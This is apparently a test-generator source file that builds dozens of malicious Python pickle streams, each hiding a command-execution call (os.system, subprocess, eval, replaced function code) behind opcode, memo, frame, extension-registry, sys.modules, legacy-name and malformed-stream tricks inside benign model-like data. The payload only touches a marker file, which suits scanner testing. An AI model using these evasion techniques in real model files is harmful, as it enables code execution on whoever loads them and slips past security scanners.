"""Pickles that hide a call in the workings of the machine: memo, stack, frames, opcodes, broken ends."""

from __future__ import annotations

import marshal
import pickle
import struct

from third_asm import MARK, C, G, Raw, Style, bound, dump, emit, system

TOUCH = f"touch {MARK}"
T = TOUCH.encode()
ARGS = b"X" + struct.pack("<I", len(T)) + T + b"\x85"
SYSTEM = b"cos\nsystem\n"
CALL = SYSTEM + ARGS + b"R"
WRITE = f"open('{MARK}','w').close()"
NAMES = b"\x8c\x05posix\x8c\x06system"
P2, P4, P5 = (b"\x80" + bytes([n]) for n in (2, 4, 5))


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


def benign(seed=0):
    return {
        "epoch": 3 + seed,
        "lr": 0.001,
        "classes": ["cat", "dog"],
        "best": None,
        "history": [0.7, 0.5, 0.4],
    }


def code_inside(source):
    """The code object of the one function that `source` defines."""
    return next(part for part in compile(source, "m", "exec").co_consts if hasattr(part, "co_code"))


def opcodes():
    yield "INST in protocol 0", b"(V" + T + b"\nios\nsystem\n."
    yield "OBJ with class first", b"(" + SYSTEM + ARGS[:-1] + b"o."
    yield (
        "NEWOBJ of Popen left half made, then called",
        dump(
            C(
                G("subprocess", "Popen.__init__"),
                (C(G("subprocess", "Popen"), (), "newobj"), ["touch", MARK]),
            ),
            Style(4),
        ),
    )
    yield (
        "NEWOBJ_EX of a partial with names",
        dump(
            C(
                C(
                    G("functools", "partial"),
                    (G("subprocess", "Popen"),),
                    "newobj_ex",
                    extra={"args": TOUCH, "shell": True},
                ),
                (),
            ),
            Style(4),
        ),
    )
    yield (
        "extension code of one byte",
        P2
        + emit(C(G("copyreg", "add_extension"), ("os", "system", 77)), Style(2))
        + b"0\x82\x4d"
        + ARGS
        + b"R.",
    )
    yield (
        "extension code of two bytes",
        P2
        + emit(C(G("copyreg", "add_extension"), ("posix", "system", 4660)), Style(2))
        + b"0\x83\x34\x12"
        + ARGS
        + b"R.",
    )
    yield (
        "extension code of four bytes",
        P2
        + emit(C(G("copy_reg", "add_extension"), ("subprocess", "getoutput", 70000)), Style(2))
        + b"0\x84\x70\x11\x01\x00"
        + ARGS
        + b"R.",
    )
    yield (
        "extension registry written directly",
        P2
        + emit(G("copyreg", "_inverted_registry"), Style(2))
        + emit(99, Style(2))
        + emit(("os", "system"), Style(2))
        + b"s0\x82\x63"
        + ARGS
        + b"R.",
    )
    yield (
        "extension cache written directly",
        P2
        + emit(G("copyreg", "_extension_cache"), Style(2))
        + emit(9, Style(2))
        + SYSTEM
        + b"s0\x82\x09"
        + ARGS
        + b"R.",
    )
    yield (
        "memo of a high number",
        P2 + SYSTEM + b"r\xff\xff\x01\x00" + b"0" + b"j\xff\xff\x01\x00" + ARGS + b"R.",
    )
    yield "memo number reused", P2 + b"cbuiltins\nlen\nq\x010" + SYSTEM + b"q\x010" + b"h\x01" + ARGS + b"R."
    yield (
        "MEMOIZE lands on a number in use",
        P4 + b"\x8c\x03lenr\x01\x00\x00\x000" + SYSTEM + b"\x940" + b"j\x01\x00\x00\x00" + ARGS + b"R.",
    )
    yield (
        "MEMOIZE numbering shifted by sparse puts",
        P4 + b"Kaq\x050" + b"Kbq\x070" + NAMES + b"\x93\x940" + b"h\x02" + ARGS + b"R.",
    )
    yield "text PUT with leading zeros", b"cos\nsystem\np007\n0g7\n(V" + T + b"\ntR."
    yield "text GET with spaces", b"cos\nsystem\np 12\n0g12 \n(V" + T + b"\ntR."
    yield (
        "names from memo swapped",
        P4 + b"\x8c\x06system\x94\x8c\x05posix\x940" + b"0h\x01h\x00\x93" + ARGS + b"R.",
    )
    yield (
        "names in eight-byte strings",
        P4 + b"\x8d\x02" + bytes(7) + b"os\x8d\x06" + bytes(7) + b"system\x93" + ARGS + b"R.",
    )
    yield "names as old byte strings", P4 + b"U\x02osT\x06\x00\x00\x00system\x93" + ARGS + b"R."
    yield "names with escapes", P2 + b"V\\u006fs\nV\\u0073ystem\n\x93" + ARGS + b"R."
    yield (
        "STRING names with escapes",
        P4 + b"S'\\x6f\\x73'\nS\"sy\\x73tem\"\n\x93" + b"S'to\\165ch third-mark'\n\x85R.",
    )
    yield (
        "module name computed",
        P4 + emit(bound("", "join", ["po", "six"]), Style(4)) + b"\x8c\x06system\x93" + ARGS + b"R.",
    )
    yield (
        "function name computed from a dict",
        P4 + b"\x8c\x02os" + emit(bound({"a": "system"}, "get", "a"), Style(4)) + b"\x93" + ARGS + b"R.",
    )
    yield "DUP of a function", P2 + SYSTEM + b"2" + ARGS + b"R0" + b"0N."
    yield "POP hides the result", P2 + CALL + b"0" + emit(benign(), Style(2)) + b"."
    yield "POP_MARK hides the call", P2 + b"(" + CALL + b"KaKb1" + emit(benign(1), Style(2)) + b"."
    yield "call under a mark in a tuple of many", P2 + b"(KaKb" + CALL + b"KcKdt."
    yield "mark between function and arguments", P2 + SYSTEM + b"(X" + struct.pack("<I", len(T)) + T + b"tR."
    yield "call as dictionary key", P2 + b"}" + CALL + b"K\x01s."
    yield "call inside a frozenset", P4 + b"(KaKb" + CALL + b"\x91."
    yield "call between ADDITEMS", P4 + b"\x8f(K\x01" + CALL + b"\x90."
    yield "call inside LIST of protocol 0", b"(I1\n" + CALL.replace(ARGS, b"(V" + T + b"\nt") + b"I2\nl."
    yield (
        "command as bytearray",
        P5
        + SYSTEM
        + emit(bound(Raw(b"\x96" + struct.pack("<Q", len(T)) + T), "decode"), Style(4))
        + b"\x85R.",
    )
    yield "PROTO repeated in the middle", P2 + SYSTEM + P4 + ARGS + P5 + b"R."
    yield "no PROTO, new opcodes", NAMES + b"\x93" + ARGS + b"R."
    yield "PROTO 0 with new opcodes", b"\x80\x00" + NAMES + b"\x93" + ARGS + b"R."
    yield "PROTO 5, old opcodes", P5 + b"(V" + T + b"\nios\nsystem\n."
    yield (
        "frames of one opcode",
        P4 + frame(NAMES[:7]) + frame(NAMES[7:]) + frame(b"\x93") + frame(ARGS) + frame(b"R."),
    )
    yield "empty frames between", P4 + frame(b"") + frame(NAMES + b"\x93") + frame(b"") + frame(ARGS + b"R.")
    yield "second half outside frames", P4 + frame(emit(benign(2), Style(4)) + b"0") + CALL + b"."
    yield (
        "string longer than its frame's neighbours",
        P4 + frame(b"N0") + b"\x8d" + struct.pack("<Q", 70000) + b"a" * 70000 + b"0" + frame(CALL + b"."),
    )
    yield (
        "LONG4 and floats around",
        P2 + b"\x8b\x04\x00\x00\x00\x01\x02\x03\x040G" + bytes(8) + b"0" + CALL + b".",
    )
    yield (
        "integers as text, with signs",
        b"I-12\n0L99999999999999999999L\n0F1e3\n0(V" + T + b"\nios\nsystem\n.",
    )
    yield (
        "arguments built by SETITEMS then values",
        P2 + SYSTEM + emit(C(G("builtins", "tuple"), (bound({1: TOUCH}, "values"),)), Style(2)) + b"R.",
    )
    yield (
        "arguments from a list made a tuple",
        P2 + SYSTEM + emit(C(G("builtins", "tuple"), ([TOUCH],)), Style(2)) + b"R.",
    )


def states():
    space = C(G("types", "SimpleNamespace"), ())
    yield (
        "APPEND calls an attribute",
        P2
        + emit(C(G("types", "SimpleNamespace"), (), state={"append": G("os", "system")}), Style(2))
        + ARGS[:-1]
        + b"a.",
    )
    yield (
        "APPENDS calls extend",
        P2
        + emit(
            C(
                G("types", "SimpleNamespace"),
                (),
                state={"extend": C(G("operator", "methodcaller"), ("__len__",)), "append": G("os", "system")},
            ),
            Style(2),
        )
        + b"0"
        + emit(C(G("types", "SimpleNamespace"), (), state={"extend": G("subprocess", "call")}), Style(2))
        + b"("
        + emit("touch", Style(2))
        + emit(MARK, Style(2))
        + b"e.",
    )
    yield (
        "ADDITEMS calls add",
        P4
        + emit(C(G("types", "SimpleNamespace"), (), state={"add": G("os", "system")}), Style(4))
        + b"("
        + ARGS[:-1]
        + b"\x90.",
    )
    yield (
        "BUILD plants __setstate__ and calls it",
        P2
        + emit(space, Style(2))
        + b"}"
        + emit("__setstate__", Style(2))
        + SYSTEM
        + b"sb"
        + ARGS[:-1]
        + b"b.",
    )
    yield (
        "BUILD replaces the code of a function",
        dump(
            (
                Raw(
                    emit(G("base64", "b64encode"), Style(2))
                    + emit(
                        (
                            None,
                            {
                                "__code__": C(
                                    G("marshal", "loads"),
                                    (
                                        marshal.dumps(
                                            code_inside(f"def f(s, altchars=None):\n {WRITE}\n return s")
                                        ),
                                    ),
                                )
                            },
                        ),
                        Style(2),
                    )
                    + b"b"
                ),
                C(G("base64", "b64encode"), (b"x",)),
            )
        ),
    )
    yield (
        "BUILD replaces defaults of a function",
        P2
        + emit(G("pydoc", "pipepager"), Style(2))
        + emit((None, {"__defaults__": ("x", f"{TOUCH};")}), Style(2))
        + b"b)R.",
    )
    yield (
        "BUILD writes into a module",
        P2
        + emit(C(G("importlib", "import_module"), ("webbrowser",)), Style(2))
        + emit({"open": G("os", "system")}, Style(2))
        + b"b0"
        + emit(C(G("webbrowser", "open"), (TOUCH,)), Style(2))
        + b".",
    )
    yield (
        "BUILD gives a class a method",
        P2
        + emit(G("json.encoder", "JSONEncoder"), Style(2))
        + emit((None, {"default": G("os", "popen")}), Style(2))
        + b"b0"
        + emit(C(G("json", "dumps"), ({"k": 1},)), Style(2))
        + b"0"
        + CALL
        + b".",
    )
    yield (
        "SETITEM of sys.modules",
        P2
        + emit(G("sys", "modules"), Style(2))
        + emit("colorsys", Style(2))
        + emit(C(G("builtins", "__import__"), ("os",)), Style(2))
        + b"s0ccolorsys\nsystem\n"
        + ARGS
        + b"R.",
    )
    yield (
        "SETITEMS of sys.modules by another name",
        P2
        + emit(G("sys", "modules"), Style(2))
        + b"("
        + emit("sklearn.tree._model", Style(2))
        + emit(C(G("importlib", "import_module"), ("posix",)), Style(2))
        + b"u0csklearn.tree._model\nsystem\n"
        + ARGS
        + b"R.",
    )
    yield (
        "_reconstructor runs an initialiser",
        dump(
            C(
                G("copyreg", "_reconstructor"),
                (G("subprocess", "Popen"), G("subprocess", "Popen"), ["touch", MARK]),
            )
        ),
    )
    yield (
        "_reconstructor in Python 2 spelling",
        dump(
            C(
                G("copy_reg", "_reconstructor"),
                (G("subprocess", "Popen"), G("subprocess", "Popen"), ["touch", MARK]),
            ),
            Style(1),
        ),
    )
    yield (
        "partial emptied and refilled by BUILD",
        dump(
            C(
                C(
                    G("functools", "partial"),
                    (G("builtins", "len"),),
                    state=(G("os", "system"), (TOUCH,), {}, None),
                ),
                (),
            )
        ),
    )
    yield (
        "partial state inside OrderedDict factory",
        dump(
            bound(
                C(
                    G("collections", "defaultdict"),
                    (
                        C(
                            G("functools", "partial"),
                            (G("builtins", "int"),),
                            state=(G("subprocess", "getoutput"), (TOUCH,), {}, {}),
                        ),
                    ),
                ),
                "__getitem__",
                "x",
            )
        ),
    )
    yield (
        "property setter through BUILD",
        dump(
            C(
                C(
                    G("builtins", "type"),
                    (
                        "Model",
                        (),
                        {
                            "weights": C(
                                G("builtins", "property"),
                                (
                                    None,
                                    C(
                                        G("builtins", "eval"),
                                        (f"lambda s, v: __import__('os').system('{TOUCH}')",),
                                    ),
                                ),
                            )
                        },
                    ),
                ),
                (),
                state=(None, {"weights": 1}),
            )
        ),
    )
    yield (
        "class whose __setattr__ is the payload",
        dump(
            C(
                C(
                    G("builtins", "type"),
                    (
                        "Model",
                        (),
                        {
                            "__setattr__": C(
                                G("builtins", "eval"),
                                (f"lambda s, k, v: __import__('os').system('{TOUCH}')",),
                            )
                        },
                    ),
                ),
                (),
                state=(None, {"weights": 1}),
            )
        ),
    )
    yield (
        "class whose __setitem__ is the payload",
        P2
        + emit(
            C(
                C(
                    G("builtins", "type"),
                    (
                        "D",
                        (),
                        {
                            "__setitem__": C(
                                G("builtins", "eval"), ("lambda s, k, v: __import__('os').system(v)",)
                            )
                        },
                    ),
                ),
                (),
            ),
            Style(2),
        )
        + b"K\x01"
        + ARGS[:-1]
        + b"s.",
    )
    yield (
        "persistent_load is not needed: weakref callback",
        dump(
            (
                C(
                    G("weakref", "ref"),
                    (
                        C(C(G("builtins", "type"), ("M", (), {})), ()),
                        C(G("builtins", "eval"), (f"lambda r: __import__('os').system('{TOUCH}')",)),
                    ),
                ),
                1,
            )
        ),
    )


def legacy():
    """Names that Python 3 maps for streams of protocol 2 and below."""
    yield "commands.getoutput", b"ccommands\ngetoutput\n(V" + T + b"\ntR."
    yield "__builtin__.eval", b"c__builtin__\neval\n(V__import__('os').system('" + T + b"')\ntR."
    yield (
        "__builtin__.apply kind: reduce",
        dump(C(G("__builtin__", "reduce"), (G("os", "popen"), [TOUCH, "r"])), Style(1)),
    )
    yield (
        "itertools.imap",
        dump(
            C(G("__builtin__", "list"), (C(G("itertools", "imap"), (G("os", "system"), [TOUCH])),)), Style(0)
        ),
    )
    yield (
        "urllib.urlretrieve of a file",
        dump((C(G("urllib", "urlretrieve"), ("file:///etc/hostname", MARK)),), Style(1)),
    )
    yield (
        "dumbdbm.open",
        dump((C(G("dumbdbm", "open"), (MARK, "n")), C(G("io", "open"), (MARK, "w"))), Style(2)),
    )
    yield (
        "SimpleXMLRPCServer",
        dump(
            C(
                C(
                    G("SimpleXMLRPCServer", "resolve_dotted_attribute"),
                    (C(G("__builtin__", "__import__"), ("os",)), "system"),
                ),
                (TOUCH,),
            ),
            Style(2),
        ),
    )
    yield "cPickle.loads", dump(C(G("cPickle", "loads"), (b"cos\nsystem\n(V" + T + b"\ntR.",)), Style(2))
    yield (
        "__builtin__.execfile kind: compile",
        dump(C(G("__builtin__", "eval"), (C(G("__builtin__", "compile"), (WRITE, "m", "exec")),)), Style(0)),
    )
    yield (
        "UserDict and Queue beside",
        dump(
            [
                {"a": 1},
                C(G("__builtin__", "map"), (G("os", "system"), [TOUCH])),
                C(G("__builtin__", "list"), (C(G("__builtin__", "map"), (G("os", "system"), [TOUCH])),)),
            ],
            Style(1),
        ),
    )


def broken():
    """Streams that fail after the payload ran."""
    good = emit(benign(3), Style(2))
    yield "no STOP", P2 + CALL
    yield "ends inside a string", P2 + CALL + b"X\xff\x00\x00\x00ab"
    yield "unknown opcode after the call", P2 + CALL + b"\xfe\xfe\xfe"
    yield "memo that was never set", P2 + CALL + b"0h\x63."
    yield "stack runs empty", P2 + CALL + b"000000."
    yield "bad text after the call", P2 + CALL + b"0X\x02\x00\x00\x00\xff\xfe."
    yield "frame longer than the file", P4 + b"N0" + CALL + frame(b"N." + bytes(900))[:12]
    yield "missing class after the call", P2 + CALL + b"0cmissing_package.models\nNet\n)R."
    yield "persistent id that nobody loads", P2 + CALL + b"0Pweights\n."
    yield "binary persistent id", P2 + CALL + b"Q."
    yield "BUILD on an integer", P2 + CALL + b"}" + emit("a", Style(2)) + b"K\x01sb."
    yield "NEXT_BUFFER without buffers", P5 + CALL + b"0\x97."
    yield "READONLY_BUFFER without buffers", P5 + CALL + b"\x98."
    yield "negative PUT", b"cos\nsystem\n(V" + T + b"\ntR0Na\np-5\n."
    yield "integer that is none", b"(V" + T + b"\nios\nsystem\n0Itwelve\n."
    yield "unregistered extension", P2 + CALL + b"0\x82\xfa."
    yield "protocol 99 announced late", P2 + CALL + b"0\x80\x63N."
    yield "tuple below the mark", P2 + CALL + b"0t."
    yield "huge announced length", P4 + CALL + b"0\x8d" + b"\xff" * 7 + b"\x7f."
    yield "truncated in the middle of benign state", P2 + CALL + b"0" + good[: len(good) // 2]
    yield "second stream holds the call", pickle.dumps(benign(4)) + P2 + CALL + b".", "pickle_many"
    yield (
        "third stream, first two real",
        pickle.dumps([1, 2, 3], 4) + pickle.dumps(benign(5), 0) + b"(V" + T + b"\nios\nsystem\n.",
        "pickle_many",
    )
    yield "call, then forty bytes of noise", P2 + CALL + b"." + bytes(range(40))
    yield (
        "frame that ends inside an operand, Python machine",
        P4 + b"\x95\x02" + bytes(7) + b"N0" + CALL + b".",
        "pickle_python",
    )


def carriers():
    """A call among what a real file holds."""
    big = [[float(i % 97), i, f"token-{i}"] for i in range(3000)]
    yield "after thirty thousand values", dump([big, system()], Style(4, memo="memoize"))
    yield (
        "before thirty thousand values",
        dump({"payload": system(), "vocabulary": big}, Style(2, memo="put")),
    )
    yield (
        "inside a training state",
        dump(
            {**benign(6), "optimizer": {"state": {}, "param_groups": [{"lr": 0.1, "hook": system()}]}},
            Style(3),
        ),
    )
    yield "forty lists deep", dump(nest(system(), 40), Style(2))
    yield "three hundred tuples deep", dump(nest(system(), 300, tuple_of=True), Style(4))
    yield (
        "mixed spellings",
        dump(
            {"m": benign(7), "x": C(G("subprocess", "getoutput"), (TOUCH,))},
            Style(4, 5, "memoize", mixed=True),
        ),
    )
    yield (
        "mixed spellings, old",
        dump({"m": benign(8), "x": C(G("os", "popen"), (TOUCH,))}, Style(2, 9, "put", mixed=True)),
    )
    yield (
        "as the value of an estimator's parameter",
        dump(
            C(G("types", "SimpleNamespace"), (), state={"n_estimators": 10, "random_state": system()}),
            Style(5),
        ),
    )
    yield (
        "date and decimal objects around",
        dump(
            [
                C(G("decimal", "Decimal"), ("1.5",)),
                C(G("datetime", "date"), (2024, 5, 1)),
                C(G("posix", "system"), (TOUCH,)),
                C(G("fractions", "Fraction"), ("1/3",)),
            ],
            Style(4),
        ),
    )
    yield (
        "argument of an allowed constructor",
        dump(
            C(G("collections", "OrderedDict"), ([("a", 1), ("b", C(G("os", "system"), (TOUCH,)))],)), Style(2)
        ),
    )
    yield "argument of a set", dump(C(G("builtins", "set"), ([1, 2, system()],)), Style(3))
    yield (
        "state of an exception",
        dump(C(G("builtins", "ValueError"), ("x",), state={"cause": system()}), Style(2)),
    )
    yield "inside datetime's timezone", dump(C(G("datetime", "timedelta"), (system(), 1, 2)), Style(2))
    yield "index of a slice", dump(C(G("builtins", "slice"), (0, system(), None)), Style(4))
    yield "part of a complex number", dump(C(G("builtins", "complex"), (system(), 0.5)), Style(2))
    yield (
        "in the arguments of uuid",
        dump([system(), C(G("uuid", "UUID"), ("12345678123456781234567812345678",))], Style(4)),
    )


def nest(value, depth, *, tuple_of=False):
    for _ in range(depth):
        value = (value,) if tuple_of else [value]
    return value
